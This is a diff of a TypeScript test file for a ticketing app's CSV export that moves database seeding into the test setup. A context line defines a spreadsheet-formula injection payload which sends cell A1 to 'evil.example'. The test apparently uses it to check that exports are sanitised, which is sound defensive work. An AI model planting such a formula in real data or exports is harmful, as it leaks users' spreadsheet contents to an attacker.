@@ -6,7 +6,6 @@ import { eq } from 'drizzle-orm';
 import { GET as exportGet } from '@/tests/helpers/api';
 import { GET as feedbackCsvGet } from '@/tests/helpers/api';
 import * as s from '@/lib/server/db/schema';
-import { runSeed } from '@/lib/server/db/seed';
 import { csvHead, csvLines } from '@/lib/server/reports/export-file';
 import { majorUnits } from '@/lib/money';
 import { useTestDatabase } from '../helpers/db';
@@ -15,7 +14,7 @@ import { buy } from '../helpers/purchases';
 import { freeSeatsOf } from '../helpers/seats';
 import { auth, eventBySlug, makeUser, params, request } from '../helpers/tickets';
 
-const t = useTestDatabase();
+const t = useTestDatabase({ seeded: true });
 const SLUG = 'dunaj-bratislava-fc-kosice';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
@@ -29,7 +28,6 @@ let cast: Cast;
 let eventId: string;
 
 beforeAll(async () => {
-  await runSeed(t.db);
   const event = await eventBySlug(t.db, SLUG);
   eventId = event.id;
   cast = await makeCast(t.db, event.orgId);
